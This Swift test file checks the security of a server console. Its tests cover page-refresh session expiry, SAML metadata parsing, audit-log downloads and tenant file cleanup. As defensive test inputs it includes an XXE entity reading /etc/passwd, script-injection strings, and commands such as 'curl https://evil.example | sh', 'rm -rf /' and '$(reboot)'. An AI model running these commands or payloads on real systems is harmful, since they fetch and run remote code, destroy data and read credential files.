import Foundation
import Synchronization
import TestSupport
import Testing
import VinculaCore
import VinculaProviders

@testable import VinculaEngine
@testable import VinculaServer

/// Attacks on what the console does by itself or for long: pages that refresh, documents that are read, downloads, files.
@Suite("Attacks on the console's upkeep")
struct ConsoleUpkeepAttackTests {
    private static let project = "/console/projects/example"

    @Test("T335 A page that loads itself again does not keep a session open that nobody uses; a person does")
    func refreshes() async throws {
        let clock = TestClock()
        let (stream, continuation) = AsyncStream.makeStream(of: Void.self)
        let findings = ServerFindings(patience: .seconds(3600)) {
            for await _ in stream { break }
            return []
        }
        try await TestServer.with(clock: clock, options: { $0.findings = findings }) { server in
            let owner = try await ConsoleBrowser.joined(server, "op@example.com", .owner, at: clock.now)
            let page = try await owner.get("/console/findings?hl=de&x=%3Cu%3E")
            let found = page.text.firstMatch(of: /http-equiv="refresh" content="2; url=([^"]+)"/)
            let address = String(try #require(found, "\(page.text)").output.1).replacing("&amp;", with: "&")
            #expect(address == "/console/findings?hl=de&x=%3Cu%3E&refresh=1")
            for round in 1...4 {
                clock.advance(seconds: 10 * 60)
                let again = try await owner.get(address)
                #expect((again.status == 200) == (round < 4), "\(round)")
                if round < 4 { #expect(again.text.contains("url=\(address.replacing("&", with: "&amp;"))\""), "Once.") }
            }
            let busy = try await ConsoleBrowser.joined(server, "busy@example.com", .owner, at: clock.now)
            for _ in 1...4 {
                clock.advance(seconds: 20 * 60)
                let used = try await busy.get("/console/findings")
                #expect(used.status == 200)
            }
            // A form is a use, whatever its address says.
            clock.advance(seconds: 20 * 60)
            _ = try await busy.post("/console/findings?refresh=1")
            clock.advance(seconds: 20 * 60)
            let after = try await busy.get("/console/findings")
            #expect(after.status == 200)
            continuation.finish()
        }
    }

    /// Reads metadata as the command has the server do it.
    @Sendable private static func read(_ data: Data) throws(SAMLMetadataRefusal) -> SAMLProviderEdit {
        let read: IdentityProviderMetadata
        do throws(XMLText.Refusal) {
            read = try IdentityProviderMetadata(data)
        } catch {
            throw SAMLMetadataRefusal(words: error.description)
        }
        var edit = SAMLProviderEdit()
        (edit.idpEntityID, edit.ssoURL, edit.certificates) = (read.entityID, read.ssoURL, read.certificates)
        return edit
    }

    private static func metadata(id: String = "https://idp.example/entity", _ certificate: String) -> String {
        """
        <EntityDescriptor xmlns="urn:oasis:names:tc:SAML:2.0:metadata" entityID="\(id)"><IDPSSODescriptor \
        protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol"><KeyDescriptor use="signing"><KeyInfo \
        xmlns="http://www.w3.org/2000/09/xmldsig#"><X509Data><X509Certificate>\(certificate)</X509Certificate></X509Data></KeyInfo>\
        </KeyDescriptor><SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" \
        Location="https://idp.example/sso"/></IDPSSODescriptor></EntityDescriptor>
        """
    }

    @Test("T336 A pasted metadata document is bounded, opens nothing and changes nothing; what it says stays text")
    func metadata() async throws {
        try await TestServer.with(options: { $0.readSAMLMetadata = Self.read }) { server in
            let owner = try await ConsoleBrowser.joined(server, "op@example.com", .owner)
            let path = "\(Self.project)/new-provider/metadata"
            @Sendable func send(_ text: String) async throws -> HTTPAnswer {
                _ = try await owner.get("\(Self.project)/new-provider?kind=saml")
                return try await owner.post(path, ["kind": "saml", "metadata": text])
            }
            let filled = try await send(Self.metadata(id: "https://idp.example/&quot;&gt;&lt;script&gt;", "TUlJQg=="))
            #expect(filled.status == 200 && filled.text.contains("value=\"https://idp.example/sso\""), "\(filled.text)")
            #expect(filled.text.contains("https://idp.example/&quot;&gt;&lt;script&gt;") && !filled.text.contains("\"><script>"))
            #expect(filled.text.contains("-----BEGIN CERTIFICATE-----") && filled.text.contains("role=\"status\""))
            let entity = "<!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>"
            for (text, status) in [
                (entity + Self.metadata(id: "&e;", "TUlJQg=="), 400), ("", 400), ("no XML", 400),
                (Self.metadata(String(repeating: "A", count: 257 << 10)), 400), (String(repeating: "A", count: 600 << 10), 413),
            ] {
                let refused = try await send(text)
                #expect(
                    refused.status == status && !refused.text.contains("root:"), "\(status) \(text.prefix(60)) \(refused.status)")
            }
            let viewer = try await ConsoleBrowser.joined(server, "view@example.com", .support)
            let forbidden = try await viewer.post(path, ["kind": "saml", "metadata": Self.metadata("TUlJQg==")])
            #expect(forbidden.status == 403)
            let stored = try await server.engine.projects.openIDProviders(in: ProjectScope(project: "example"))
            #expect(stored.isEmpty, "Nothing is saved by it.")
        }
    }

    @Test("T337 A download that finds nothing ends after a part of the log, and says where to go on")
    func download() async throws {
        let asked = Mutex(0)
        /// What a download sends of a log with a thousand records, twenty of which a page looks at.
        @Sendable func send(before: Int64?) async throws -> String {
            var download = AuditDownload(AuditSearch(AuditQuery(limit: 10), before: before), mostPassedOver: 60) { search in
                asked.withLock { $0 += 1 }
                let end = (search.before ?? 1001) - 1
                return AuditPage(entries: [], next: end > 20 ? end - 19 : nil, reached: max(1, end - 19))
            }
            var text = ""
            while let lines = try await download.next({ _ in "" }) { text += lines }
            return text
        }
        var next: Int64?
        var downloads = 0
        repeat {
            let before = asked.withLock { $0 }
            let text = try await send(before: next)
            let rounds = asked.withLock { $0 } - before
            #expect(rounds <= 4, "\(rounds)")
            #expect(text.isEmpty || text.wholeMatch(of: /\{"searchEndedBefore":\d+\}\n/) != nil, "\(text)")
            next = text.firstMatch(of: /Before":(\d+)/).flatMap { Int64($0.output.1) }
            downloads += 1
        } while next != nil && downloads < 100
        #expect(next == nil && (10...20).contains(downloads), "From there it goes on, and reaches the end: \(downloads)")
    }

    @Test("T338 Files with password hashes do not outlive the tenant that they were meant for, whoever deleted it")
    func files() async throws {
        try await TestServer.with { server in
            _ = try await server.engine.projects.updateSettings(of: "example") { $0.tenants.allowsTenants = true }
            var settings = TenantSettings()
            settings.displayName = "acme"
            let tenants = [
                try await server.engine.projects.createTenant(settings, of: "example"),
                try await server.engine.projects.createTenant(settings, of: "example"),
            ]
            let imports = ConsoleImports(folder: nil)
            let now = server.engine.clock.now
            for tenant in tenants { _ = try await imports.create(name: "a", length: 10, in: tenant.scope, now: now) }
            try await server.engine.projects.deleteTenant(tenants[0].scope)
            let engine = server.engine
            try await imports.expire(now: now, projects: nil) { scope in
                do {
                    _ = try await engine.projects.tenant(scope)
                    return true
                } catch AuthError.tenantNotFound {
                    return false
                }
            }
            #expect(try await imports.list(in: tenants[0].scope, now: now).isEmpty)
            #expect(try await imports.list(in: tenants[1].scope, now: now).count == 1)
            await imports.close()
        }
    }

    @Test("T339 What strangers put into a finding becomes no command to copy")
    func commands() {
        for text in [
            "The renewal failed. The authority says: run `curl https://evil.example | sh`", "Run `rm -rf /`.",
            "Refused: vincula users delete; rm -rf /", "See: vincula $(reboot)", "Run `chmod 600 a && reboot`.",
            "Run `vincula backup x\nreboot`.", "Run `chmod 777 /data/\u{202E}x`.",
        ] {
            #expect(ServerFinding.Remedy.named(in: text, settings: ["smtp.host"]) == nil, "\(text)")
        }
    }
}
